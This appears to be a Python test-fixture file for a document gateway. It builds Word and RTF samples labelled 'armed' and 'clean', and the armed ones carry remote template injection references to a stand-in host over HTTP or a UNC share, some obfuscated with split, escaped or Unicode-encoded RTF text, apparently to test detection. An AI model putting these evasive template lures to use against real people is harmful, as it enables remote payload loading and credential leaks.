from gateway import samples
from tests.makers.links import doc_with_template
from tests.makers.rtf import rtf

FILES = {
    "armed-http.doc": lambda: doc_with_template("http://host.example/t.dot"),
    "armed-share.doc": lambda: doc_with_template("\\\\host.example\\s\\t.dot"),
    "armed-plain.rtf": lambda: rtf(b"{\\*\\template http://host.example/t.dotm}"),
    "armed-in-pieces.rtf": lambda: rtf(b"{\\*\\template {h}\\'74{\\b t}p:\r\n//host.example/t.dotm}"),
    "armed-in-unicode.doc": lambda: rtf(b"{\\*\\template \\u104?\\u116?\\uc2\\u116 xx\\u112 xx://host.example/t}"),
    "clean-normal.doc": lambda: doc_with_template("C:\\Templates\\Normal.dot"),
    "clean-none.doc": samples.doc,
    "clean-normal.rtf": lambda: rtf(b"{\\*\\template C:\\\\Templates\\\\Normal.dotm}"),
}
